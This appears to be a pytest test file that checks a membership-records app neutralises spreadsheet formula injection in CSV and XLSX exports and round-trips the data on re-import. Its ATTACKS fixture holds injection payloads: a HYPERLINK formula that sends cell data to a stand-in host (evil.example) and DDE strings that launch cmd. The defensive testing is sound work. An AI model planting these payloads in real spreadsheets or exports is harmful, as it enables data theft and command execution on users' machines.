"""Nothing live reaches a spreadsheet (issue 10 §3): names and notes that a spreadsheet
would read as a formula are written as text — a leading ``'`` in CSV, a string cell (never
a ``<f>`` element) in XLSX — and stay what they were when imported again; characters an
XLSX cell cannot hold are replaced instead of failing the export."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from orglife_tui.data import schemes
from orglife_tui.data.ledger import add_entry
from orglife_tui.data.store import Store
from orglife_tui.domain import MemberStatus
from orglife_tui.domain.records import MemberInput
from orglife_tui.export.cells import could_be_formula, csv_text
from tests.cli_run import invoke_cli

TODAY = date(2026, 12, 20)

# What people have put into names and notes to make a spreadsheet run something.
ATTACKS = {
    "001": '=HYPERLINK("http://evil.example/?d="&A1,"点此")',
    "002": "+cmd|' /C calc'!A0",
    "003": "-2+3+cmd|' /C calc'!A0",
    "004": "@SUM(1+1)*cmd|' /C calc'!A0",
    "005": "\t=1+1",
    "006": "\r=1+1",
}


def run(*args: str):
    argv = ["--lang", "en", *args]
    return invoke_cli(argv, catch_exceptions=False)


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1+1", "-1+1", "@A1", "\t=1", "\r=1", '=HYPERLINK("x")', "-x", "+86 138"],
)
def test_text_that_could_start_a_formula_is_marked(text):
    assert could_be_formula(text)
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["-", "--", "—", "-3", "+2.5", "1e3", "张伟", "", "a=b", 5, -3.5])
def test_real_data_is_left_as_it_is(value):
    """A dash in a note, a signed number, a name: nothing to compute, nothing changed."""
    assert csv_text(value) == value


@pytest.fixture
def attacked(db_url, monkeypatch):
    """Members whose names and notes carry each attack, with points; commands run on TODAY."""
    monkeypatch.setenv("ORGLIFE_TODAY", TODAY.isoformat())
    store = Store.open(db_url, operator="tester", today=lambda: TODAY)
    try:
        b = store.resolve_branch("第一党支部")
        store.add_members(
            b.id,
            [MemberInput(no, name, MemberStatus.full) for no, name in ATTACKS.items()]
            + [MemberInput("007", "王\x07芳\x0b", MemberStatus.full)],  # old data: BEL, VT
        )
        info, scheme = schemes.ensure_active(store, b.id)
        for no, note in ATTACKS.items():
            add_entry(
                store,
                b.id,
                scheme,
                info.id,
                no,
                "volunteer_service",
                hours=2,
                note=note,
                entry_date=date(2026, 12, 1),
            )
        add_entry(
            store,
            b.id,
            scheme,
            info.id,
            "007",
            "volunteer_service",
            hours=1,
            note="-",
            entry_date=date(2026, 12, 1),
        )
    finally:
        store.close()
    return db_url


def _no_formula_in(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name), name


def _strings(path: Path) -> set[str]:
    wb = load_workbook(path)
    return {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value}


@pytest.mark.parametrize("what", [("scores",), ("ledger",), ("publicity", "--days", "7")])
def test_xlsx_exports_hold_no_formula_and_keep_the_text(attacked, tmp_path, what):
    out = tmp_path / f"{what[0]}.xlsx"
    result = run("--db", attacked, "export", *what, "--year", "2026", "-f", "xlsx", "-o", str(out))
    assert result.exit_code == 0, result.output
    _no_formula_in(out)
    cells = _strings(out)
    names = {ATTACKS[no].strip() for no in ("001", "002", "003", "004")}
    assert any(n in str(c) for c in cells for n in names)
    # Text, numbers and dates (a ledger's dates are dates): nothing else, no formula.
    assert all(isinstance(c, str | int | float | datetime) for c in cells)
    assert any("王" in str(c) and "芳" in str(c) for c in cells)  # BEL and VT did not crash it


@pytest.mark.parametrize("what", [("scores",), ("ledger",)])
def test_csv_exports_mark_the_text_and_leave_real_data(attacked, what):
    result = run("--db", attacked, "export", *what, "--year", "2026", "-f", "csv")
    assert result.exit_code == 0, result.output
    cells = [c for row in csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))) for c in row]
    for text in ATTACKS.values():
        if text in cells or "'" + text in cells:
            assert text not in cells and "'" + text in cells
    for c in cells:
        assert not (c and could_be_formula(c)), c
    if what == ("ledger",):
        assert "-" in cells  # a dash in a note stays a dash


def test_members_list_as_csv_marks_the_names_and_imports_back_the_same(attacked, tmp_path):
    listed = run("--db", attacked, "members", "list", "--format", "csv")
    assert listed.exit_code == 0, listed.output
    text = listed.stdout
    assert "'=HYPERLINK(" in text and "'+cmd" in text
    # The rows without control characters (those are issue 10 §2's to refuse at import).
    rows = [
        r
        for r in csv.reader(io.StringIO(text, newline=""))
        if r and r[0] in ("member_no", *list(ATTACKS)[:4])
    ]
    roster = tmp_path / "roster.csv"
    with roster.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    fresh = f"sqlite:///{tmp_path / 'fresh.db'}"
    imported = run("--db", fresh, "import", "members", str(roster))
    assert imported.exit_code == 0, imported.output
    again = Store.open(fresh, operator="tester", today=lambda: TODAY)
    try:
        branch = again.resolve_branch(None)
        names = {m.member_no: m.name for m in again.list_members(branch.id)}
    finally:
        again.close()
    for no in ("001", "002", "003", "004"):
        assert names[no] == ATTACKS[no]
